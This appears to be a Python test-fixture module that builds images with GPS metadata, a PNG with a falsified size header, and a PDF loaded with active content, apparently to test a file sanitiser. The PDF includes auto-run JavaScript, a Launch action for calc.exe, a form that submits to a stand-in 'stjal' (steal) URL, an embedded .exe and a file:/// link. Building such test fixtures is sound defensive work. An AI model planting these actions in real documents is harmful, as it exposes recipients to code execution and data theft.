"""Files as people and attackers send them, made in memory."""

import struct
import zlib
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream
from PIL import Image

GPS = 0x8825
ORIENTATION = 0x0112


def exif(orientation: int = 1) -> Image.Exif:
    """What a phone writes: its maker, the position and which way it was held."""
    data = Image.Exif()
    data[0x010F] = "Telefonmakaren"
    data[0x9003] = "2020:05-01 10:00:00"
    data[ORIENTATION] = orientation
    data.get_ifd(GPS).update({1: "N", 2: (55.0, 35.0, 12.0), 3: "E", 4: (12.0, 58.0, 30.0)})
    return data


def picture(fmt: str = "JPEG", size: tuple[int, int] = (64, 48), mode: str = "RGB", **options: Any) -> bytes:
    """Left half red, right half blue, where the mode has colours."""
    image = Image.new("RGB", size, "red")
    image.paste("blue", (size[0] // 2, 0, *size))
    written = BytesIO()
    (image if mode == "RGB" else image.convert(mode)).save(written, fmt, **options)
    return written.getvalue()


def photo(**options: Any) -> bytes:
    return picture(exif=exif(), comment=b"min anteckning", xmp=b"<x:xmpmeta>min plats</x:xmpmeta>", **options)


def moving(fmt: str) -> bytes:
    return picture(fmt, save_all=True, append_images=[Image.new("RGB", (64, 48), "green")])


def png_that_says(width: int, height: int, data: bytes = b"") -> bytes:
    """A PNG of any size in its head, with as much or little picture as wanted."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def written(pdf: Pdf, **options: Any) -> bytes:
    content = BytesIO()
    pdf.save(content, **options)
    return content.getvalue()


def new_pdf(pages: int = 1) -> Pdf:
    pdf = pikepdf.new()
    for _page in range(pages):
        pdf.add_blank_page()
    return pdf


def document(pages: int = 1, **options: Any) -> bytes:
    return written(new_pdf(pages), **options)


def loaded_pdf() -> bytes:
    """A PDF with everything in it that should not leave the site again, beside a heading, a link and a photo."""
    pdf = new_pdf(2)
    script = Dictionary(S=Name.JavaScript, JS="app.alert('skript')")
    launch = Dictionary(S=Name.Launch, F="calc.exe")
    submit = Dictionary(S=Name.SubmitForm, F="https://example.se/stjal")
    pdf.Root.OpenAction = script
    pdf.Root.AA = Dictionary(WC=script)
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array(["a", script])),
        Dests=Dictionary(Names=Array(["kapitel", Array([pdf.pages[1].obj, Name.Fit])])),
    )
    pdf.attachments["bilaga.exe"] = b"MZ bilagan"
    pdf.Root.Lang = "sv-SE"
    pdf.docinfo["/Author"] = "En Upphovsperson"
    with pdf.open_metadata() as metadata:
        metadata["dc:creator"] = ["En Upphovsperson"]
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=script)
    page.PieceInfo = Dictionary(Program=Dictionary(Private="dold text"))
    page.Thumb = pdf.make_stream(b"miniatyren")
    widget = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            Rect=[0, 0, 1, 1],
            T="fält",
            A=submit,
            AA=Dictionary(K=script),
        )
    )
    page.Annots = Array(
        [
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=[0, 0, 9, 9],
                A=Dictionary(S=Name.URI, URI="https://malmo.se", Next=launch),
            ),
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 8, 8], A=launch),
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=[0, 0, 7, 7],
                A=Dictionary(S=Name.URI, URI="file:///etc/x"),
            ),
            Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 6, 6]),
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Text,
                    Rect=[0, 0, 5, 5],
                    T="En Upphovsperson",
                    Contents="Lappen",
                )
            ),
            widget,
        ]
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]), XFA="formulär")
    photo_stream = Stream(
        pdf,
        photo(),
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=64,
        Height=48,
        ColorSpace=Name.DeviceRGB,
        BitsPerComponent=8,
        Filter=Name.DCTDecode,
    )
    page.Resources = Dictionary(XObject=Dictionary(Im0=photo_stream))
    pdf.pages[1].obj.Dur = 3
    return written(pdf)
